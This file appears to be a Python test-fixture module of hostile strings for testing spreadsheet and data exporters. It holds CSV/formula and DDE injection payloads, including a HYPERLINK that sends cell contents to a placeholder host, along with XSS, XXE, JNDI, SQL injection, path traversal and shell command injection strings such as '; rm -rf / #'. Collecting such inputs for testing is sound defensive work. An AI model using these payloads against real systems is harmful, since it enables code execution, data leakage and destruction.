"""Texts that break exporters: every one a field value that some application really holds or an attacker types."""

from __future__ import annotations

FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")", "=IMPORTXML(\"//x\",\"/\")",
    "=WEBSERVICE(\"http://example.invalid\")", "=2+5+cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=", "==1",
    "+1", "+1+1", "+49 30 123456", "+cmd|'/C calc'!A0", "-1", "-1+1", "-2+3+cmd|'/C calc'!A0", "-", "--", "-4\" slab",
    "@SUM(1+1)*cmd|'/C calc'!A0", "@here", "@", "\t=1+1", "\tTAB", "\t", "\r=1+1", "\rCR", "\r", "\n=1+1", "\nLF", "\n",
    " =1+1", "   =1+1", " \t =1+1", "\x0b=1+1", "\x0c=1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003-1", "\ufeff=1+1",
    "\u200b=1+1", "\u2060@x", "\u200e=1+1", "\u2067=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " ＝1+1", "'=1+1", "\"=1+1\"",
    "\x00=1+1", "\x01=1+1", "%=1+1", "|calc", "x;=1+1", "x\t=1+1", "x,=1+1", "\u2212" "1+1", "=\x001+1", "{=1+1}", "𝟙=1",
)  # fmt: skip
NUMBERS_IN_DISGUISE = (
    "007", "1E5", "1e309", "-1E-5", "0x1F", "1,000.00", "1.000,00", "1 000", "$1", "1%", "NaN", "Infinity", "-inf", "INF",
    "1234567890123456", "9007199254740993", "123456789012345678901234567890", "12/1/2024", "2026-01-01", "1-2", "MAR1",
    "SEPT2", "TRUE", "false", "null", "NULL", "None", "undefined", "#N/A", "#REF!", "#DIV/0!", "(1)", "1/2", "٣", "१२३", "½", "۰",
)  # fmt: skip
CONTROLS = (
    "\x00", "a\x00b", "\x01\x02\x03\x04\x05\x06\x07\x08", "\x0b\x0c", "\x0e\x0f\x10\x1b[31mred\x1b[0m", "\x1f", "\x7f",
    "\x80\x81\x84", "\x85", "a\x85b", "\x9f", "\ufffe", "\uffff", "a\uffffb", "\U0001fffe", "\U0010ffff", "\ufdd0", "\ufffd", "\ufeffbom",
    "a\ufeffb", "\u2028", "a\u2029b", "\xad", "a\xadb", "\u200b\u200c\u200d", "\u061c", "\u180e", "\ufff9a\ufffab\ufffb",
    "\u202egnp.exe", "\u202dltr\u202c", "\u202aa\u202bb\u202c", "\u2066iso\u2069", "\u2067rtl\u2069", "\u2068first\u2069",
    "line 1\nline 2", "line 1\r\nline 2", "line 1\rline 2", "a\tb", "a\t\n\r\tb", "trailing ", " leading", "  ", " ", "", "\u00a0", "\u3000",
)  # fmt: skip
SCRIPTS = (
    "Größe – naïve café “quotes” €12 ﬁ", "Ευρωπαϊκή Ένωση", "Съешь же ещё этих булок", "混凝土基礎", "コンクリートｺﾝｸﾘｰﾄ",
    "콘크리트 기초 철근", "\u1112\u1161\u11ab\u1100\u1173\u11af", "𠀀𠮷𪚥𫝀", "㐀鿿豈", "עברית קיר יסוד", "נִקּוּד", "العربية جدار الأساس",
    "السَّلَامُ عَلَيْكُمْ", "﷽", "ﷺ", "mixed עברית and العربية 123 (a)", "فارسی ۱۲۳", "اُردو", "हिन्दी क्षत्रिय", "ภาษาไทย กำลังน้ำที่นี่", "বাংলা",
    "தமிழ்", "తెలుగు", "ગુજરાતી", "ਪੰਜਾਬੀ", "ಕನ್ನಡ", "മലയാളം", "සිංහල", "ქართული", "Հայերեն", "አማርኛ", "ភាសាខ្មែរ", "မြန်မာ", "ພາສາລາວ",
    "བོད་སྐད", "ᠮᠣᠩᠭᠣᠯ", "ᏣᎳᎩ", "𓀀𓂀", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "𐍈", "😀", "👩\u200d👩\u200d👧", "👍🏽", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "🇺🇳🇩🇪", "1\ufe0f\u20e3", "☃️ ★ ✓ ∑√≤", "e\u0301 a\u0308 o\u0328", "Z\u0351\u036b\u0343\u036a\u0302\u034a\u0348a\u0334l\u0335g\u0321o\u0489",
    "\u0301", "\u0b95\u0bcd", "İıẞſ", "ЀЁ", "㍿㌀", "Ⅷ①", "\ue000", "\U000f0000",
)  # fmt: skip
MARKUP = (
    "<b>bold</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</para><para>", "&amp;", "&lt;", "&#65;", "&#x0;", "&unknown;",
    "&", "<", ">", "]]>", "<![CDATA[x]]>", "<!-- x -->", "<?xml version=\"1.0\"?>", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
    "_x0041_", "_x000D_", "_x005F_x0041_", "_X0041_", "_x00e9_", "%PDF-1.7 endstream endobj", "(\\)", "\\n\\r\\t\\\\", "\\u0000", "\\ud800",
    "/Title (x) >>", "{\"a\": [1,", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "%s%n%d {0} {x!r}", "$(id) `id`", "; rm -rf / #", "'; DROP TABLE projects; --",
    "' OR '1'='1", "1); DELETE FROM measurements; --", "../../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\CON", "file:///etc/passwd",
    "http://example.invalid/?a=1&b=2", "javascript:alert(1)", "mailto:a@b?c", "a,b", "a;b", "a|b", "\"", "\"\"", "a\"b\"c", "'", "''", "'a'", "`", "\\", "a\\",
    "\",\"", "\"\r\n\"", "a,\"b\r\nc\",d", "\r\n", "\n\n\n", "sep=;", "ID", "#VALUE", "--x", "~!@#$%^&*()_+{}|:\"<>?", "¡™£¢∞§¶•ªº–≠", "Ω≈ç√∫˜µ≤≥÷",
)  # fmt: skip
SHEET_NAMES = (
    "Summary", "summary", "SUMMARY ", "By Page", "BY PAGE", "Cost Summary", "cost summary", "Overflow", "overflow", "History", "history",
    "'", "'''", "''''''''''''''''''''''''''''''''''''", "[a]", ":\\/?*[]", "x" * 31, "x" * 32, "X" * 33, "x" * 31 + "1", "Summary (2)", "Sheet", "Sheet1",
    "Ｓｕｍｍａｒｙ", "ﬁle", "FILE", "file", "🏗" * 20, "\u0301" * 40, "A1", "R1C1", "a'b", "'a", "a'", "..", ".", "_x0041_name",
)  # fmt: skip
LONG = (
    "x" * 255, "word " * 51, "字" * 255, "𠀀" * 255, "ع" * 255, "é" * 255, "<" * 255, "\"" * 255, "=" + "A" * 254, "\n" * 255, "👩\u200d" * 127,
)  # fmt: skip

NAUGHTY = (*FORMULAS, *NUMBERS_IN_DISGUISE, *CONTROLS, *SCRIPTS, *MARKUP, *SHEET_NAMES, *LONG)

NOTES = (
    "x" * 40_000, "word " * 8_000, "字" * 20_000, "a\nb" * 500, "🏗" * 16_384, "<&>\"'" * 8_000, "שלום " * 4_000, "=" + "1+" * 20_000,
    "y" * 32_767, "y" * 32_768, "🏗" * 16_383 + "z", "कि" * 9_000,
)  # fmt: skip
"""Texts of unlimited fields: around and far beyond the 32,767 UTF-16 units of a spreadsheet's cell."""

BROKEN_BYTES = (
    b"\xed\xa0\x80 surrogate",
    b"latin-1 \xe9",
    b"\xff\xfe",
    b"cut \xe2\x82",
    b"\xc0\xaf overlong",
    b"=\xff1+1",
)
"""Bytes that are no UTF-8, which SQLite keeps in a text column."""

HOSTILE_TEXTS = (
    '=HYPERLINK("http://example.invalid","Click")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "＝1+1", "007", "1E5", "",
    "N/A", "null", "NaN", "'quoted'", 'a,b;c|d"e', "line 1\r\nline 2", "مبنى سكني", "בניין מגורים", "南塔楼 構造図",
    "👩‍👩‍👧 e\u0301", "\u202egnp.exe", "<script>alert('x')</script>", "'; DROP TABLE accounts; --", "100% _sure_ \\ yes",
    " spaces ", "_x0041_",
)  # fmt: skip
"""Hostile strings, as people and attackers type them into text fields."""
